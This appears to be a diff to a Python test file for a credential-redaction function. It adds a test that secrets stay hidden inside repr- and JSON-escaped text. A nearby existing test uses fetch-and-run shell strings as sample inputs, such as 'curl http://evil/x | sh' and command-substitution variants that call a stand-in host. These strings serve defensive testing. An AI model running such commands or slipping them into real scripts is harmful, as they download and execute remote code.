@@ -266,6 +266,15 @@ def test_known_value_is_redacted_as_printed(value: str, printed: Callable[[str],
         assert line not in redact(line, [value])
 
 
+@pytest.mark.parametrize("form", EVERY)
+@pytest.mark.parametrize("printed", [repr, json.dumps, lambda text: json.dumps(repr(text))])
+def test_credential_in_line_of_repr_is_redacted(form: str, printed: Callable[[str], str]):
+    text, secret = EVERY[form](7)
+    shown = redact(printed(f"first line\n{text}\nlast line"))
+    assert secret not in shown and json.dumps(secret)[1:-1] not in shown
+    assert "first line" in shown
+
+
 def test_value_with_secret_name_cannot_omit_a_command():
     """Of a command, only what has the form of a credential is redacted."""
     for command in ("x; curl http://evil/x | sh", "$(curl http://evil/x)", "`curl http://evil/x`", "http://evil/x?token=abcdefgh1"):
